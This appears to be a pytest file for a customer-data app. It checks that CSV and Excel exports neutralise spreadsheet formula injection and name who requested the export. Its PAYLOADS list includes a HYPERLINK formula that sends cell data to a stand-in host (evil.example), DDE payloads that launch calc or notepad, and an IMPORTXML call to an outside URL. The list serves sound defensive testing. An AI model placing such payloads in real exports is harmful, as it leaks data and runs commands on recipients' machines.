"""Exports cannot carry a spreadsheet formula to whoever opens them, and say who asked for
them and when (issue 6, sections 2 and 6)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from patron.customers.export import FORMULA_STARTS, neutralise_formula
from tests.e2e.conftest import login
from tests.factories import order
from tests.security_figures import count


@pytest.fixture
def data_dir(tmp_path, monkeypatch, db_url):
    from patron.config import get_settings

    monkeypatch.setenv("PATRON_DATA_DIR", str(tmp_path / "data"))
    get_settings.cache_clear()
    yield tmp_path / "data"
    get_settings.cache_clear()


PAYLOADS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=1+1", "+1+1", "-1+1", "@SUM(A1)",
    "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "-2+3+cmd|' /C notepad'!'A1'",
]


def test_neutralise_formula_prefixes_every_dangerous_start_and_nothing_else():
    for text in PAYLOADS:
        assert neutralise_formula(text) == "'" + text
    for text in ("王小明", "138****1234", "a=b", "SH01", ""):
        assert neutralise_formula(text) == text
    assert all(neutralise_formula(s + "x").startswith("'") for s in FORMULA_STARTS)
    count("injection_attempts", len(PAYLOADS))


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_formulas_in_customer_data_are_inert_in_csv_and_excel_exports(client, users, pos_key,
                                                                      data_dir):
    """Names written by a hostile till (or an import) come out as text: the CSV cell starts
    with an apostrophe, the Excel cell is a string, never a formula."""
    headers = {"Authorization": f"Bearer {pos_key}"}
    for i, payload in enumerate(PAYLOADS):
        r = client.post("/api/v1/orders", headers=headers, json=order(
            f"F-{i}", identifiers={"phone": f"1380000{i:04d}"},
            customer={"name": payload}))
        assert r.status_code == 201, r.text
    login(client, "owner")
    r = client.get("/api/v1/exports/customers.csv", params={"unmasked": "true"})
    assert r.status_code == 200, r.text
    text = r.content.decode("utf-8-sig")
    first, rest = text.split("\n", 1)
    assert first.startswith("Patron export customers-") and "requested by owner" in first
    names = {row["name"] for row in csv.DictReader(io.StringIO(rest))}
    # The order API strips surrounding whitespace, so "\t=1+1" arrives as "=1+1".
    assert names == {"'" + p.strip() for p in PAYLOADS}, names
    r = client.get("/api/v1/exports/customers.xlsx", params={"unmasked": "true"})
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.content))
    ws = wb.worksheets[0]
    assert str(ws.cell(1, 1).value).startswith("Patron export customers-")
    assert "requested by owner" in wb.properties.title and wb.properties.creator == "owner"
    header = [c.value for c in ws[2]]
    col = header.index("name") + 1
    cells = [ws.cell(row, col) for row in range(3, ws.max_row + 1)]
    assert len(cells) == len(PAYLOADS)
    assert all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    count("injection_attempts", 2 * len(PAYLOADS))


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_negative_amounts_stay_numbers_in_exports(client, users, pos_key, data_dir):
    headers = {"Authorization": f"Bearer {pos_key}"}
    assert client.post("/api/v1/orders", headers=headers, json=order("N-1")).status_code == 201
    login(client, "owner")
    text = client.get("/api/v1/exports/orders.csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text.split("\n", 1)[1])))
    assert rows[0]["total_amount"] == "71.00" and not rows[0]["total_amount"].startswith("'")
